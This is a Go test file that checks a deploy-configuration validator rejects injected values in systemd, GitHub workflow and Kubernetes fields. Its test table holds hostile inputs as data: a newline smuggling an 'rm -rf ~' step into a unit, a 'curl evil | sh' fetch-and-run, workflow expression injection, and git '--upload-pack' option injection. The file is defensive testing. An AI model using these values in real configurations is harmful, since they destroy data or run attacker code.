package schema

import (
	"errors"
	"path/filepath"
	"strings"
	"testing"
)

// TestDeployFieldsRefused: every deploy field that reaches a rendered
// script, unit, argv or workflow is refused at its position when its
// value would change what runs: a newline in a directory (a new line in
// the unit), "${{" where the workflow would expand it, a ref or URL git
// would read as an option, a version that is no version.
func TestDeployFieldsRefused(t *testing.T) {
	base := strings.NewReplacer("INTERVAL", "30m", "PATTERN", "0 9 * * 1", "SHAPE", "resident", "SVC", "").Replace(deployBase)
	k8s := `secret: "actctl-agents"`
	for _, tc := range []struct {
		old, new, field, why string
	}{
		{"github: {}", `github: {}, systemd: dir: "deploy\nExecStartPre=/bin/rm -rf ~"`, "deploy.systemd.dir", "control character U+000A"},
		{k8s, k8s + `, dir: "k8s\r"`, "deploy.kubernetes.dir", "control character U+000D"},
		{"github: {}", `github: dir: "wf\u2028"`, "deploy.github.dir", "control character U+2028"},
		{"github: {}", `github: actctl: "v1.0.0; curl evil | sh"`, "deploy.github.actctl", "not a version"},
		{"github: {}", `github: actctl: "${{ github.event.inputs.prompt }}"`, "deploy.github.actctl", "not a version"},
		{"github: {}", `github: runsOn: "${{ github.event.inputs.prompt }}"`, "deploy.github.runsOn", "white space"},
		{"github: {}", `github: runsOn: "x${{inputs.prompt}}"`, "deploy.github.runsOn", `holds "${{"`},
		{k8s, k8s + `, repo: {url: "https://x/y", ref: "--upload-pack=touch /tmp/p"}`, "deploy.kubernetes.repo.ref", "starts with \"-\""},
		{k8s, k8s + `, repo: {url: "https://x/y", ref: "main..dev"}`, "deploy.kubernetes.repo.ref", `".."`},
		{k8s, k8s + `, repo: {url: "https://x/y", ref: "a b"}`, "deploy.kubernetes.repo.ref", "a space"},
		{k8s, k8s + `, repo: {url: "https://x/y", ref: "x.lock"}`, "deploy.kubernetes.repo.ref", ".lock"},
		{k8s, k8s + `, repo: {url: "https://x/y", ref: "-"}`, "deploy.kubernetes.repo.ref", "starts with \"-\""},
		{k8s, k8s + `, repo: {url: "--upload-pack=sh", ref: "main"}`, "deploy.kubernetes.repo.url", "starts with \"-\""},
		{k8s, k8s + `, repo: {url: "https://x/y\nz", ref: "main"}`, "deploy.kubernetes.repo.url", "control character"},
		{`image: "ghcr.io/acme/agents@sha256:0123"`, `image: "ghcr.io/acme/agents x"`, "deploy.kubernetes.image", "white space"},
		{k8s, k8s + `, storage: size: "5Gi\nfoo"`, "deploy.kubernetes.storage.size", "not a Kubernetes quantity"},
		{k8s, k8s + `, storage: class: "-x"`, "deploy.kubernetes.storage.class", "starts with \"-\""},
		{"templates: svc:", "backends: \"claude-code\": install: \"npm i ${{ github.event.inputs.prompt }}\"\ntemplates: svc:", `backends."claude-code".install`, `holds "${{"`},
	} {
		src := strings.Replace(base, tc.old, tc.new, 1)
		if src == base {
			t.Fatalf("%s: %q not in the config", tc.field, tc.old)
		}
		_, err := LoadDir(writeWorkspace(t, map[string]string{"actant.cue": src}), filepath.Join(t.TempDir(), "home"))
		var ds Diagnostics
		if !errors.As(err, &ds) {
			t.Errorf("%s: err = %v, want diagnostics", tc.field, err)
			continue
		}
		got := ds.Errors()
		if len(got) != 1 || !strings.Contains(got[0].String(), "actant.cue:") || !strings.Contains(got[0].String(), " "+tc.field+": ") || !strings.Contains(got[0].String(), tc.why) {
			t.Errorf("%s: got %v, want one error at it saying %q", tc.field, got, tc.why)
		}
	}
}

// TestDeployFieldsAccepted: the shapes the rules are for pass.
func TestDeployFieldsAccepted(t *testing.T) {
	for _, ref := range []string{"main", "release/v1.2", "feature-x_y", "v1.0.0"} {
		if why := CheckRefName(ref); why != "" {
			t.Errorf("ref %q: %s", ref, why)
		}
	}
	for _, v := range []string{"latest", "v0.9.0", "v1.2.3-rc.1", "v0.0.0-20260101000000-abcdefabcdef"} {
		if why := CheckModuleVersion(v); why != "" {
			t.Errorf("version %q: %s", v, why)
		}
	}
	for _, q := range []string{"5Gi", "500m", "1.5", "100M"} {
		if why := checkQuantity(q); why != "" {
			t.Errorf("quantity %q: %s", q, why)
		}
	}
}
